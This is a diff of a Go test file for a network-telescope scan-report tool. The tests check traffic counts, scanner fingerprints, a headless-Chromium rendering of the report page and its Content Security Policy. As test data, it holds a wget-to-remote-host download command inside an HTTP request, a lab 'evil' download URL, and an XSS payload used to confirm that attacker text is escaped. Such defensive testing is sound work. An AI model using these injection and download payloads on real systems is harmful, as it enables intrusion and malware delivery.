@@ -4,18 +4,22 @@ import (
 	"bytes"
 	"context"
 	"encoding/base64"
+	"encoding/json"
 	"fmt"
-	"html"
+	"image/png"
+	"math"
 	"net/netip"
 	"os"
 	"os/exec"
 	"path/filepath"
 	"regexp"
+	"slices"
 	"strings"
 	"testing"
 	"time"
 
 	"github.com/spoki-telescope/spoki/analysis/assemble"
+	"github.com/spoki-telescope/spoki/records"
 )
 
 // exampleAssembled runs assemble (flush at EOF) over the example logs into a
@@ -38,142 +42,362 @@ func exampleAssembled(t *testing.T) (outDir, logDir string) {
 	return outDir, logDir
 }
 
-// textBars parses the text report into chart id → label → value text, the
-// form the page shows beside each bar.
-func textBars(t *testing.T, text string) map[string]map[string]string {
+// readJSONLines returns every line of the files in dir as a generic map.
+func readJSONLines(t *testing.T, dir string) []map[string]any {
 	t.Helper()
-	out := map[string]map[string]string{}
-	section := ""
-	portRow := regexp.MustCompile(`^(\d+), (\d+), ([0-9.]+)%$`)
-	namedRow := regexp.MustCompile(`^(\S+): (\d+)(?: \(([0-9.]+)%\))?$`)
-	for _, line := range strings.Split(text, "\n") {
-		switch {
-		case strings.HasPrefix(line, "# "):
-			switch {
-			case strings.HasSuffix(line, "(rs)"):
-				section = "ports-rs"
-			case strings.HasSuffix(line, "(is)"):
-				section = "ports-is"
-			case strings.HasSuffix(line, "(tp)"):
-				section = "ports-tp"
-			case strings.HasPrefix(line, "# contact types"):
-				section = "contact-types"
-			case strings.HasPrefix(line, "# delay"):
-				section = "delay"
-			}
-			out[section] = map[string]string{}
-		case strings.HasPrefix(section, "ports-"):
-			if m := portRow.FindStringSubmatch(line); m != nil {
-				out[section][m[1]] = m[2] + " (" + m[3] + "%)"
-			}
-		case section == "contact-types" || section == "delay":
-			if m := namedRow.FindStringSubmatch(line); m != nil {
-				if m[3] != "" {
-					out[section][m[1]] = m[2] + " (" + m[3] + "%)"
-				} else {
-					out[section][m[1]] = m[2]
-				}
-			}
+	files, _ := filepath.Glob(filepath.Join(dir, "*"))
+	var out []map[string]any
+	for _, f := range files {
+		rc, err := records.OpenLogSniffed(f)
+		if err != nil {
+			t.Fatal(err)
 		}
+		dec := json.NewDecoder(rc)
+		for {
+			var m map[string]any
+			if err := dec.Decode(&m); err != nil {
+				break
+			}
+			out = append(out, m)
+		}
+		rc.Close()
 	}
 	return out
 }
 
-// domBars parses the DOM that Chromium dumps after the script ran.
-func domBars(t *testing.T, dom string) map[string]map[string]string {
+// jsonOf renders r with WriteJSON and decodes it back, so that the tests
+// check the JSON output and not the Go struct.
+func jsonOf(t *testing.T, r *Report) *Report {
 	t.Helper()
-	row := regexp.MustCompile(`<g class="bar-row" data-chart="([^"]+)" data-label="([^"]*)" data-value="(\d+)">.*?<text class="value"[^>]*>([^<]*)</text></g>`)
-	out := map[string]map[string]string{}
-	for _, m := range row.FindAllStringSubmatch(dom, -1) {
-		id, label, value, text := m[1], html.UnescapeString(m[2]), m[3], html.UnescapeString(m[4])
-		if !strings.HasPrefix(text, value) {
-			t.Errorf("bar %s/%s: data-value %s but text %q", id, label, value, text)
-		}
-		if out[id] == nil {
-			out[id] = map[string]string{}
-		}
-		out[id][label] = text
+	var buf bytes.Buffer
+	if err := r.WriteJSON(&buf); err != nil {
+		t.Fatal(err)
 	}
-	return out
+	var back Report
+	if err := json.Unmarshal(buf.Bytes(), &back); err != nil {
+		t.Fatalf("the JSON does not decode: %v", err)
+	}
+	return &back
 }
 
-func TestExampleReportRendersInChromium(t *testing.T) {
+// num reads a JSON number from a path of keys.
+func num(m map[string]any, path ...string) float64 {
+	var v any = m
+	for _, k := range path {
+		o, _ := v.(map[string]any)
+		v = o[k]
+	}
+	f, _ := v.(float64)
+	return f
+}
+
+// indep holds counts computed in a test from the raw lines.
+type indep struct {
+	syns, irregular, sessions, twoPhase int
+	sources, nets                       map[netip.Addr]bool
+	hours                               map[int64][3]int // syns, irregular, sources
+	hourSrc                             map[int64]map[netip.Addr]bool
+	scanners                            map[string]int
+	ports                               map[string]map[int]int
+	delays                              []float64
+	withoutAck                          int
+}
+
+func newIndep() *indep {
+	return &indep{sources: map[netip.Addr]bool{}, nets: map[netip.Addr]bool{}, hours: map[int64][3]int{},
+		hourSrc: map[int64]map[netip.Addr]bool{}, scanners: map[string]int{},
+		ports: map[string]map[int]int{"rs": {}, "is": {}, "tp": {}}}
+}
+
+func (c *indep) syn(t time.Time, src string, irregular bool, scanner string) {
+	c.syns++
+	a := netip.MustParseAddr(src).Unmap()
+	c.sources[a] = true
+	bits := 24
+	if a.Is6() {
+		bits = 48
+	}
+	p, _ := a.Prefix(bits)
+	c.nets[p.Addr()] = true
+	h := t.Unix() / 3600
+	v := c.hours[h]
+	v[0]++
+	if irregular {
+		c.irregular++
+		v[1]++
+	}
+	if c.hourSrc[h] == nil {
+		c.hourSrc[h] = map[netip.Addr]bool{}
+	}
+	c.hourSrc[h][a] = true
+	v[2] = len(c.hourSrc[h])
+	c.hours[h] = v
+	c.scanners[scanner]++
+}
+
+// check compares the report's JSON with the independent counts.
+func (c *indep) check(t *testing.T, r *Report) {
+	t.Helper()
+	tt := r.Totals
+	// Past Limits.ExactDistinct the distinct counts are estimates: within
+	// 6% (4 standard errors of 4096 registers).
+	near := func(got, want int) bool {
+		if !tt.Estimated {
+			return got == want
+		}
+		return math.Abs(float64(got-want)) <= 0.06*float64(want)
+	}
+	if tt.SYNs != c.syns || tt.Irregular != c.irregular || !near(tt.Sources, len(c.sources)) || !near(tt.Networks, len(c.nets)) {
+		t.Errorf("totals: syns %d irregular %d sources %d networks %d; the lines hold %d %d %d %d",
+			tt.SYNs, tt.Irregular, tt.Sources, tt.Networks, c.syns, c.irregular, len(c.sources), len(c.nets))
+	}
+	if tt.Sessions != c.sessions {
+		t.Errorf("sessions = %d, the lines hold %d", tt.Sessions, c.sessions)
+	}
+	seen := 0
+	for _, h := range r.Hours {
+		want := c.hours[h.Start.Unix()/3600]
+		srcOK := h.Sources == want[2] || h.Estimated && math.Abs(float64(h.Sources-want[2])) <= 0.06*float64(want[2])
+		if h.SYNs != want[0] || h.Irregular != want[1] || !srcOK {
+			t.Errorf("hour %s: syns %d irregular %d sources %d; the lines hold %v", h.Start, h.SYNs, h.Irregular, h.Sources, want)
+		}
+		if h.SYNs > 0 {
+			seen++
+		}
+	}
+	if seen != len(c.hours) {
+		t.Errorf("the series has %d hours with SYNs, the lines %d", seen, len(c.hours))
+	}
+	for _, s := range r.Scanners {
+		if s.SYNs != c.scanners[s.Name] {
+			t.Errorf("scanner %s: %d SYNs, the lines hold %d", s.Name, s.SYNs, c.scanners[s.Name])
+		}
+	}
+	for _, p := range r.Ports {
+		total := 0
+		for _, n := range c.ports[p.Class] {
+			total += n
+		}
+		if p.Total != total || p.PortsTargeted != len(c.ports[p.Class]) {
+			t.Errorf("ports %s: total %d over %d ports; the lines hold %d over %d", p.Class, p.Total, p.PortsTargeted, total, len(c.ports[p.Class]))
+		}
+		for i, pc := range p.Top {
+			if pc.Count != c.ports[p.Class][pc.Port] {
+				t.Errorf("ports %s: port %d count %d, the lines hold %d", p.Class, pc.Port, pc.Count, c.ports[p.Class][pc.Port])
+			}
+			if i > 0 && pc.Count > p.Top[i-1].Count {
+				t.Errorf("ports %s: not sorted at %d", p.Class, i)
+			}
+		}
+	}
+	tp := r.TwoPhase
+	if tp.Events != c.twoPhase || tp.Delays != len(c.delays) || tp.Contact.All != c.twoPhase || tp.Contact.WithoutAck != c.withoutAck {
+		t.Errorf("two-phase: %d events, %d delays, contact %+v; the lines hold %d events, %d delays, %d without ack",
+			tp.Events, tp.Delays, tp.Contact, c.twoPhase, len(c.delays), c.withoutAck)
+	}
+	ct := tp.Contact
+	if ct.All != ct.WithoutAck+ct.WithoutPayload+ct.WithPayload || ct.WithPayload != ct.ASCII+ct.Hex+ct.Downloader {
+		t.Errorf("contact types %+v do not add up", ct)
+	}
+	for _, p := range tp.DelayCDF {
+		n := 0
+		for _, d := range c.delays {
+			if d <= p.DelayS {
+				n++
+			}
+		}
+		if p.Count != n || math.Abs(p.Fraction-float64(n)/float64(len(c.delays))) > 1e-12 {
+			t.Errorf("CDF at %gs: %d (%.4f), the lines hold %d", p.DelayS, p.Count, p.Fraction, n)
+		}
+	}
+	if len(c.delays) > 0 && (len(tp.DelayCDF) == 0 || tp.DelayCDF[len(tp.DelayCDF)-1].Fraction != 1) {
+		t.Errorf("CDF %v does not reach 1", tp.DelayCDF)
+	}
+}
+
+// fingerprint is records.Fingerprint's rules, written again from the
+// README for the test.
+func fingerprint(ipid, ttl, window int, seq uint32, daddr string, dport int, opts []any) string {
+	if ipid == 54321 {
+		return "zmap"
+	}
+	if a := netip.MustParseAddr(daddr); a.Is4() {
+		b := a.As4()
+		d := uint32(b[0])<<24 | uint32(b[1])<<16 | uint32(b[2])<<8 | uint32(b[3])
+		if uint32(ipid) == (d^uint32(dport)^seq)&0xffff {
+			return "masscan"
+		}
+		if seq == d {
+			return "mirai"
+		}
+	}
+	if len(opts) == 1 && opts[0] == "mss" && (window == 1024 || window == 2048 || window == 3072 || window == 4096) {
+		return "nmap"
+	}
+	return "unknown"
+}
+
+func TestExampleReport(t *testing.T) {
 	outDir, logDir := exampleAssembled(t)
-	r, err := Build(context.Background(), Config{RawDir: logDir}, []string{outDir})
+	built, err := Build(context.Background(), Config{RawDir: logDir}, []string{outDir})
 	if err != nil {
 		t.Fatal(err)
 	}
-	var text bytes.Buffer
-	if err := r.WriteText(&text); err != nil {
-		t.Fatal(err)
+	r := jsonOf(t, built)
+
+	c := newIndep()
+	lines := readJSONLines(t, outDir)
+	for _, rec := range lines {
+		tag, _ := rec["tag"].(string)
+		slotOf := func(k string) map[string]any { m, _ := rec[k].(map[string]any); return m }
+		for _, k := range []string{"isyn", "rsyn"} {
+			s := slotOf(k)
+			if s == nil {
+				continue
+			}
+			tr := s["trigger"].(map[string]any)
+			pl := tr["payload"].(map[string]any)
+			opts, _ := pl["options"].([]any)
+			irr := num(tr, "ipid") == 54321 || num(tr, "ttl") > 200 || len(opts) == 0
+			c.syn(time.UnixMilli(int64(num(tr, "timestamp"))), tr["saddr"].(string), irr,
+				fingerprint(int(num(tr, "ipid")), int(num(tr, "ttl")), int(num(pl, "window_size")), uint32(num(pl, "snum")), tr["daddr"].(string), int(num(pl, "dport")), opts))
+		}
+		for _, k := range []string{"iack", "rack"} {
+			if slotOf(k) != nil {
+				c.sessions++
+			}
+		}
+		cat, anchor := "", ""
+		switch {
+		case strings.HasPrefix(tag, "isyn"):
+			cat, anchor = "is", "isyn"
+		case strings.HasPrefix(tag, "rsyn"):
+			cat, anchor = "rs", "rsyn"
+		case strings.HasPrefix(tag, "two-phase"):
+			cat, anchor = "tp", "isyn"
+			c.twoPhase++
+			c.delays = append(c.delays, (num(slotOf("rsyn"), "trigger", "timestamp")-num(slotOf("isyn"), "trigger", "timestamp"))/1000)
+			if slotOf("rack") == nil {
+				c.withoutAck++
+			}
+		}
+		if cat != "" {
+			c.ports[cat][int(num(slotOf(anchor), "trigger", "payload", "dport"))]++
+		}
 	}
-	t.Logf("text report:\n%s", text.String())
-	if r.Records == 0 || r.Errors != 0 || r.Ports[CatTwoPhase].Total == 0 {
-		t.Fatalf("Build(example) = %d records, %d errors, %d two-phase; want records, no errors, two-phase",
-			r.Records, r.Errors, r.Ports[CatTwoPhase].Total)
+	c.check(t, r)
+	if r.Totals.Records != len(lines) || r.Totals.ParseErrors != 0 || r.TwoPhase.Events == 0 {
+		t.Errorf("records %d, parse errors %d, two-phase %d; want the %d lines, none, some", r.Totals.Records, r.Totals.ParseErrors, r.TwoPhase.Events, len(lines))
 	}
-	c := r.Contact
-	if c.All != c.WithoutAck+c.WithoutPayload+c.WithPayload || c.WithPayload != c.ASCII+c.Hex+c.Downloader {
-		t.Errorf("contact types %+v do not add up", c)
+	if len(r.Tags) != 1 || r.Tags[0] != "test" || r.Start == nil || r.Start.Year() != 2021 || len(r.Inputs) == 0 || r.Inputs[0].Bytes == 0 {
+		t.Errorf("tags %v, start %v, inputs %+v: want test, 2021, the files with their sizes", r.Tags, r.Start, r.Inputs)
 	}
 	// The lab's test-spoki scenario: wget http://141.22.28.35/evil.
-	if c.Downloader == 0 {
-		t.Errorf("contact types %+v: want the downloader of 84.46.0.125", c)
+	if r.TwoPhase.Contact.Downloader == 0 || !slices.ContainsFunc(r.DownloaderHosts.Items, func(k KeyCount) bool { return k.Key == "141.22.28.35" }) {
+		t.Errorf("contact %+v, downloader hosts %+v: want the downloader of 84.46.0.125", r.TwoPhase.Contact, r.DownloaderHosts)
 	}
-	delays := 0
-	for _, n := range r.Delays {
-		delays += n
-	}
-	if delays != c.All {
-		t.Errorf("delay histogram holds %d events, want the %d two-phase events", delays, c.All)
-	}
+	checkPage(t, built, r)
+}
 
-	want := textBars(t, text.String())
-	if len(want["ports-tp"]) == 0 || len(want["contact-types"]) != 8 || len(want["delay"]) != len(delayBins)+1 {
-		t.Fatalf("text report parsed to %v, want all sections", want)
-	}
-	page := filepath.Join(t.TempDir(), "report.html")
-	f, err := os.Create(page)
-	if err != nil {
+// sections are the ids every page has.
+var sections = []string{"summary", "inputs", "hourly", "chart-syns", "chart-sources", "chart-networks", "irregular",
+	"chart-irregular", "scanners", "ports", "ports-rs", "ports-is", "ports-tp", "delay", "delay-cdf", "contact-types",
+	"payload-prefixes", "downloaders", "credentials", "fingerprints", "ja4", "hassh", "limits"}
+
+// checkPage renders the page, loads it in headless Chromium (DOM and a
+// screenshot) and checks its sections, its totals against the JSON and
+// that the browser reported no CSP violation.
+func checkPage(t *testing.T, built, r *Report) {
+	t.Helper()
+	dir := t.TempDir()
+	page := filepath.Join(dir, "report.html")
+	var buf bytes.Buffer
+	if err := built.WriteHTML(&buf); err != nil {
 		t.Fatal(err)
 	}
-	if err := r.WriteHTML(f); err != nil {
-		t.Fatal(err)
+	raw := buf.Bytes()
+	os.WriteFile(page, raw, 0o644)
+	// Attacker text (payloads naming URLs) is text, escaped; no element
+	// or rule may load anything.
+	if m := regexp.MustCompile(`(?i)<script|\s(src|href|xlink:href|action|srcset)\s*=|url\(|@import`).Find(raw); m != nil {
+		t.Errorf("page contains %q: want no script and no external assets", m)
 	}
-	f.Close()
-	raw, _ := os.ReadFile(page)
-	// Self-contained: no attribute or rule that loads anything, and no URL
-	// but the SVG namespace.
-	for _, external := range []string{"src=", "href=", "@import", "url(", "https://"} {
-		if bytes.Contains(raw, []byte(external)) {
-			t.Errorf("page contains %q: want no external assets", external)
+	shot := filepath.Join(dir, "report.png")
+	if p := os.Getenv("REPORT_SCREENSHOT"); p != "" {
+		shot = p
+	}
+	dom, console := chromium(t, page, "--dump-dom")
+	_, console2 := chromium(t, page, "--screenshot="+shot, "--window-size=1200,6000", "--hide-scrollbars")
+	for _, line := range append(console, console2...) {
+		if strings.Contains(line, "Content Security Policy") || strings.Contains(line, "Refused") {
+			t.Errorf("Chromium console: %s", line)
 		}
 	}
-	if n, ns := bytes.Count(raw, []byte("http://")), bytes.Count(raw, []byte("http://www.w3.org/2000/svg")); n != ns {
-		t.Errorf("page contains %d URLs besides the SVG namespace, want none", n-ns)
+	for _, id := range sections {
+		if !strings.Contains(dom, `id="`+id+`"`) {
+			t.Errorf("the page has no section %q", id)
+		}
 	}
-
-	dom := chromiumDump(t, page)
-	if !strings.Contains(dom, `data-rendered="5"`) {
-		t.Fatalf("the page's script did not render 5 charts; DOM starts %.500q", dom)
+	want := map[string]int{"syns": r.Totals.SYNs, "irregular": r.Totals.Irregular, "sources": r.Totals.Sources,
+		"networks": r.Totals.Networks, "sessions": r.Totals.Sessions, "two_phase": r.TwoPhase.Events,
+		"records": r.Totals.Records, "parse_errors": r.Totals.ParseErrors}
+	re := regexp.MustCompile(`data-key="([a-z_]+)">([0-9]+)<`)
+	got := map[string]string{}
+	for _, m := range re.FindAllStringSubmatch(dom, -1) {
+		got[m[1]] = m[2]
 	}
-	got := domBars(t, dom)
-	for id, rows := range want {
-		for label, wantText := range rows {
-			if got[id][label] != wantText {
-				t.Errorf("chart %s bar %q = %q, want %q (the text table's)", id, label, got[id][label], wantText)
+	for k, v := range want {
+		if got[k] != fmt.Sprint(v) {
+			t.Errorf("page total %s = %q, the JSON %d", k, got[k], v)
+		}
+	}
+	if n := strings.Count(dom, "<polyline"); r.TwoPhase.Delays > 0 && n != 5 {
+		t.Errorf("page has %d chart lines, want 5 (SYNs, sources, /24s, irregular share, CDF)", n)
+	}
+	f, err := os.Open(shot)
+	if err != nil {
+		t.Fatalf("no screenshot: %v", err)
+	}
+	defer f.Close()
+	img, err := png.Decode(f)
+	if err != nil {
+		t.Fatalf("screenshot: %v", err)
+	}
+	// The page is drawn: its style applied (the blue of the lines and
+	// bars is the style sheet's, so a blocked sheet leaves none).
+	blue := 0
+	b := img.Bounds()
+	for y := b.Min.Y; y < b.Max.Y; y += 2 {
+		for x := b.Min.X; x < b.Max.X; x += 2 {
+			cr, cg, cb, _ := img.At(x, y).RGBA()
+			if cr>>8 < 0x50 && cg>>8 > 0x60 && cg>>8 < 0x80 && cb>>8 > 0x98 && cb>>8 < 0xb0 {
+				blue++
 			}
 		}
-		if len(got[id]) != len(rows) {
-			t.Errorf("chart %s has %d bars, the text %d", id, len(got[id]), len(rows))
-		}
+	}
+	if blue < 50 {
+		t.Errorf("the screenshot has %d pixels of the charts' blue, want the styled charts", blue)
 	}
 }
 
-// chromiumDump loads page in headless Chromium and returns the DOM after
-// the scripts ran. No network: the page is a local file and every
-// background service is off.
-func chromiumDump(t *testing.T, page string) string {
+// TestCSPViolationSeen checks that checkPage's console check can fail: a
+// page whose style hash is wrong makes Chromium report a violation.
+func TestCSPViolationSeen(t *testing.T) {
+	page := filepath.Join(t.TempDir(), "bad.html")
+	var buf bytes.Buffer
+	(&Report{}).WriteHTML(&buf)
+	bad := strings.Replace(buf.String(), "sha256-", "sha256-x", 1)
+	os.WriteFile(page, []byte(bad), 0o644)
+	_, console := chromium(t, page, "--dump-dom")
+	if !slices.ContainsFunc(console, func(s string) bool { return strings.Contains(s, "Content Security Policy") }) {
+		t.Errorf("no CSP violation reported for a wrong style hash; console: %q", console)
+	}
+}
+
+// chromium loads page in headless Chromium with args and returns its
+// standard output and the console lines it logged. No network: the page
+// is a local file and every background service is off.
+func chromium(t *testing.T, page string, args ...string) (string, []string) {
 	t.Helper()
 	bin := "/usr/bin/chromium"
 	if _, err := os.Stat(bin); err != nil {
@@ -187,27 +411,34 @@ func chromiumDump(t *testing.T, page string) string {
 	}
 	ctx, cancel := context.WithTimeout(context.Background(), 90*time.Second)
 	defer cancel()
-	cmd := exec.CommandContext(ctx, bin, "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic",
+	all := append([]string{"--headless", "--no-sandbox", "--disable-gpu", "--disable-quic",
 		"--no-first-run", "--disable-background-networking", "--disable-component-update", "--disable-sync",
-		"--disable-dev-shm-usage", "--user-data-dir="+t.TempDir(), "--dump-dom", "file://"+page)
+		"--disable-dev-shm-usage", "--enable-logging=stderr", "--v=0", "--user-data-dir=" + t.TempDir()}, args...)
+	cmd := exec.CommandContext(ctx, bin, append(all, "file://"+page)...)
 	var stdout, stderr bytes.Buffer
 	cmd.Stdout, cmd.Stderr = &stdout, &stderr
 	if err := cmd.Run(); err != nil {
-		t.Fatalf("chromium --dump-dom: %v\n%s", err, stderr.String())
+		t.Fatalf("chromium %v: %v\n%s", args, err, stderr.String())
 	}
-	return stdout.String()
+	var console []string
+	for _, line := range strings.Split(stderr.String(), "\n") {
+		if strings.Contains(line, ":CONSOLE") {
+			console = append(console, line)
+		}
+	}
+	return stdout.String(), console
 }
 
 func TestTop(t *testing.T) {
-	var p Ports
+	var p ports
 	for _, port := range []int{80, 23, 23, 443, 80, 22, 22} {
 		p.add(port)
 	}
-	got := fmt.Sprint(p.Top(3))
+	got := fmt.Sprint(p.top(3))
 	// Ties keep first-seen order: 80 before 23 before 22.
 	want := "[{80 2 28.57} {23 2 28.57} {22 2 28.57}]"
 	if got != want {
-		t.Errorf("Top(3) = %s, want %s", got, want)
+		t.Errorf("top(3) = %s, want %s", got, want)
 	}
 }
 
@@ -263,48 +494,40 @@ func TestKnownScanners(t *testing.T) {
 	}
 }
 
-func TestEventLogPairing(t *testing.T) {
-	base := time.Date(2026, 11, 25, 11, 0, 0, 0, time.UTC)
-	syn := func(sec int, src string, sport, dport int, irregular bool) string {
-		return fmt.Sprintf(`{"timestamp":%q,"event_type":"syn","src_ip":%q,"src_port":%d,"dest_ip":"192.0.2.1","dest_port":%d,"proto":"TCP","tcp":{"seq":1},"irregular":%v,"scanner":"unknown"}`,
-			base.Add(time.Duration(sec)*time.Second).Format(time.RFC3339Nano), src, sport, dport, irregular)
-	}
-	session := func(src string, sport, dport int, payload string) string {
-		return fmt.Sprintf(`{"timestamp":%q,"event_type":"session","src_ip":%q,"src_port":%d,"dest_ip":"192.0.2.1","dest_port":%d,"proto":"TCP","app_proto":"generic","payload":%q}`,
-			base.Format(time.RFC3339Nano), src, sport, dport, base64.StdEncoding.EncodeToString([]byte(payload)))
-	}
-	lines := []string{
-		syn(0, "198.51.100.1", 1000, 80, true),  // phase one
-		syn(3, "198.51.100.1", 2000, 80, false), // phase two, 3 s later
-		session("198.51.100.1", 2000, 80, "GET /x?c=wget+http://203.0.113.9/a HTTP/1.1\r\n\r\n"),
-		syn(10, "198.51.100.2", 1000, 23, true), // irregular, never followed
-		syn(11, "198.51.100.3", 1000, 22, false),
-		syn(20, "198.51.100.4", 1000, 8080, true),
-		syn(700, "198.51.100.4", 1001, 8080, false), // too late: irregular + regular
-		syn(30, "192.35.168.1", 1, 80, true),        // censys
-		syn(40, "198.51.100.5", 1, 443, true),
-		syn(100, "198.51.100.5", 2, 443, false), // two-phase without session
-		syn(50, "198.51.100.6", 1, 25, true),
-		syn(51, "198.51.100.6", 2, 25, false),
-		session("198.51.100.6", 2, 25, ""),
-		`{"timestamp":"2026-11-25T11:00:00Z","event_type":"stats","packets":1}`,
-	}
+// TestHostileStrings checks that what attackers choose (payloads, user
+// names, fingerprints) reaches the page as text: no element, attribute or
+// style comes from it.
+func TestHostileStrings(t *testing.T) {
 	dir := t.TempDir()
-	os.WriteFile(filepath.Join(dir, "t.events.20261125-11.jsonl"), []byte(strings.Join(lines, "\n")+"\n"), 0o644)
+	evil := `</td><script>alert(1)</script><img src=x onerror=alert(1)><style>*{}</style>`
+	js := func(s string) string { b, _ := json.Marshal(s); return string(b) }
+	lines := []string{
+		fmt.Sprintf(`{"timestamp":"2026-11-25T10:00:00.000000000Z","event_type":"session","src_ip":"203.0.113.1","src_port":1,"dest_ip":"198.51.100.1","dest_port":23,"app_proto":"telnet","payload":%s,"telnet":{"credentials":[{"username":%s,"password":%s}]},"tls":{"ja4":%s}}`,
+			js(base64.StdEncoding.EncodeToString([]byte(evil))), js(evil), js(evil+"\x1b[2J"), js(evil)),
+		fmt.Sprintf(`{"timestamp":"2026-11-25T10:00:01.000000000Z","event_type":"downloader","src_ip":"203.0.113.1","src_port":1,"dest_ip":"198.51.100.1","dest_port":80,"server":%s,"name":%s}`, js(evil), js(evil)),
+	}
+	os.WriteFile(filepath.Join(dir, "x.events.20261125-10.jsonl"), []byte(strings.Join(lines, "\n")+"\n"), 0o644)
 	r, err := Build(context.Background(), Config{}, []string{dir})
 	if err != nil {
 		t.Fatal(err)
 	}
-	got := fmt.Sprintf("rs %v is %v tp %v ks %d contact %+v delays %v",
-		r.Ports[CatRegular].Counts, r.Ports[CatIrregular].Counts, r.Ports[CatTwoPhase].Counts,
-		r.Ports[CatIrregular].KnownScanners, r.Contact, r.Delays)
-	want := "rs map[22:1 8080:1] is map[23:1 8080:1] tp map[25:1 80:1 443:1] ks 1 " +
-		"contact {All:3 WithoutAck:1 WithoutPayload:1 WithPayload:1 ASCII:0 Hex:0 Downloader:1 Matched:0} " +
-		"delays [0 1 1 0 0 0 1 0 0 0]"
-	if got != want {
-		t.Errorf("Build(event log) =\n%s\nwant\n%s", got, want)
+	if r.Credentials.Total != 1 || r.JA4.Total != 1 || r.DownloaderHosts.Total != 1 || r.PayloadPrefixes.Total != 1 {
+		t.Fatalf("credentials %d, ja4 %d, hosts %d, prefixes %d: want each seen once", r.Credentials.Total, r.JA4.Total, r.DownloaderHosts.Total, r.PayloadPrefixes.Total)
 	}
-	if r.Source != "event log" {
-		t.Errorf("Source = %q, want event log", r.Source)
+	var buf bytes.Buffer
+	if err := r.WriteHTML(&buf); err != nil {
+		t.Fatal(err)
+	}
+	page := buf.String()
+	if !strings.Contains(page, "&lt;script&gt;alert(1)&lt;/script&gt;") {
+		t.Errorf("the page does not show the attacker's text escaped")
+	}
+	for _, bad := range []string{"<script", "<img", "<style>*", "\x1b"} {
+		if strings.Contains(page, bad) {
+			t.Errorf("the page contains %q from attacker input", bad)
+		}
+	}
+	if strings.Count(page, "<style>") != 1 {
+		t.Errorf("the page has %d style elements, want its own only", strings.Count(page, "<style>"))
 	}
 }
